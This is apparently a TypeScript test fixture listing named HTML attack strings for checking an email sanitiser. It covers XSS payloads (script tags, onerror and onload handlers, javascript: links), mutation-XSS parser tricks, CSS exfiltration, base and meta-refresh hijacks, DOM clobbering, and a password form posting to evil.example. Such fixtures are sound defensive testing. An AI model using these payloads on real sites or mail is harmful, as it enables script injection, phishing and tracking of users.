/** Attacks through HTML in mails, for tests of its cleaning. */
export const htmlAttacks: Record<string, string> = {
  'a script': '<p>Hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'a script within another': '<p>Hi</p><scr<script>ipt>alert(1)</scr</script>ipt>',
  'event handlers': '<p onclick=alert(1) onmouseover="x">Hi</p><img src=x onerror=alert(1)><body onload=alert(1)>',
  'an event handler behind a slash': '<img/src=x/onerror=alert(1)><svg/onload=alert(1)>Hi',
  'links that run':
    '<a href="javascript:alert(1)">Hi</a><a href=" jav&#x09;ascript:alert(1)">x</a><a href="data:text/html,x">y</a><a href="vbscript:x">z</a>',
  'a link without a scheme': '<a href="//evil.example">Hi</a><a href="/api/users">here</a>',
  'addresses in styles':
    '<p style="background:url(https://evil.example/t.png);color:red">Hi</p><p style="background-image:image-set(\'https://evil.example\')">x</p>',
  'escaped styles': '<p style="w\\69dth:expression(alert(1));background:u\\72l(//evil.example)">Hi</p>',
  'a place over the page': '<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>',
  'a style sheet':
    '<style>@import "https://evil.example/x.css";*{display:none}</style><link rel=stylesheet href=//evil.example>Hi',
  'SVG and MathML':
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>Hi</text></a></svg><math><mtext><img src=x onerror=alert(1)></mtext></math>Hi',
  'a parser that is led astray by noscript':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Hi</noscript>Hi',
  'a parser that is led astray by foreign content':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">Hi',
  'a parser that is led astray by form and math':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>Hi',
  'a parser that is led astray by raw text':
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>Hi',
  'a title that ends itself': '<title><a title="</title><img src=x onerror=alert(1)>"></title>Hi',
  'a comment that never ends': 'Hi <!-- > <img src=x onerror=alert(1)> -->',
  'a comment that ends early': '<!--> <img src=x onerror=alert(1)> -->Hi',
  'processing instructions and CDATA': '<?xml <img src=x onerror=alert(1)>?><![CDATA[<img src=x onerror=alert(1)>]]>Hi',
  'another base': '<base href="https://evil.example/"><a href="login">Hi</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">Hi',
  'a form':
    '<form action="https://evil.example"><input name=password type=password><button formaction=javascript:alert(1)>Hi</button></form>Hi',
  'frames and objects': '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>Hi',
  'names that hide those of the page': '<img name="body" id="cookie" alt="x"><a id="location" class="x">Hi</a>',
  'pictures that load':
    '<img srcset="https://evil.example/1 1x" alt=x><picture><source srcset="//evil.example"><img src="//evil.example/2" alt=y></picture><table background="https://evil.example"><tr><td>Hi</table>',
  'a vector picture as data': '<img alt=x src="data:image/svg+xml;base64,PHN2Zy8+">Hi',
  'quotation marks that never end': '<p title="Hi><img src=x onerror=alert(1)>',
  'a data attribute of its own':
    '<img data-src="https://evil.example/t.png" alt=Hi><img alt="&quot; src=&quot;https://evil.example">',
  'a link that opens over us':
    '<a href="https://evil.example" target="_top" rel="opener" ping="https://evil.example">Hi</a>',
};
